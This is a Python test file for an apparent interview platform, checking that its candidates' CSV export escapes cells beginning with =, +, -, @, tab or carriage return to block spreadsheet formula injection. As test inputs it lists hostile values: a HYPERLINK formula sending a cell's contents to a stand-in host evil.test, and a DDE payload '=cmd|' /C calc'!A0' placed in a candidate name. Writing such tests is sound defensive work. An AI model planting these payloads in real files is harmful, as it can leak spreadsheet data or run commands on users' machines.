"""The candidates' CSV: no cell, header included, starts a formula in a spreadsheet program.

Rubric names, candidates' names and emails and decision notes are typed by people; any of
them may begin with = + - @, a tab or a carriage return. Each such cell is written with a
leading quote (OWASP: CSV Injection), and the file still parses back to the same texts.
"""

from __future__ import annotations

import csv
import io

import pytest

from oneway.domain.cells import spreadsheet_safe as csv_cell
from oneway.domain.models import Role
from oneway.handlers import api
from oneway.local.gateway import LambdaContext
from oneway.service import identity
from tests.support.events import http_event

h = api.lambda_handler
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")
HOSTILE = ['=HYPERLINK("https://evil.test/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTab", "\rReturn", " =1+1"]


def call(method, path, body=None, sub="alice"):
    answer = h(http_event(method, path, body, sub=sub), LambdaContext("t"))
    return answer["statusCode"], answer.get("body") or ""


@pytest.fixture
def ports(memory_ports):
    """The use cases on the in-memory ports (no moto): what is checked here is the service's, not the adapters'."""
    return memory_ports


@pytest.fixture
def org(ports):
    identity.create_organization(ports, "Acme", org_id="acme")
    identity.add_member(ports, "acme", "alice", "alice@acme.test", Role.recruiter)


def dangerous(cell: str) -> bool:
    return cell.lstrip(" ")[:1] in TRIGGERS and cell[:1] != "'"


@pytest.mark.parametrize("text", [*HOSTILE, "plain", "", "'quoted already", "3.50"])
def test_a_cell_never_starts_a_formula(text):
    cell = csv_cell(text)
    assert not dangerous(cell)
    assert cell == text or cell == "'" + text


def test_every_cell_of_the_export_header_included_is_escaped(org):
    interview = {
        "title": "Analyst",
        "questions": [{"prompt": "Why us?", "kind": "text"}],
        "rubric": [{"name": name} for name in HOSTILE],
    }
    status, made = call("POST", "/api/interviews", interview)
    assert status == 201, made
    iid = __import__("json").loads(made)["interviewId"]
    people = [{"name": "=cmd|' /C calc'!A0", "email": "=x@evil.test"}, {"name": "@Ada", "email": "+ada@x.test"}]
    status, _ = call("POST", f"/api/interviews/{iid}/invitations", {"candidates": people, "sendEmail": False})
    assert status == 201

    status, text = call("GET", f"/api/interviews/{iid}/candidates.csv")
    assert status == 200
    rows = list(csv.reader(io.StringIO(text)))
    header = rows[0]
    for name in HOSTILE:
        assert csv_cell(name.strip()) in header  # the rubric's names are stored stripped
    unsafe = [(i, cell) for i, row in enumerate(rows) for cell in row if dangerous(cell)]
    assert not unsafe, unsafe
    names = {row[1] for row in rows[1:]}
    assert names == {"'=cmd|' /C calc'!A0", "'@Ada"}
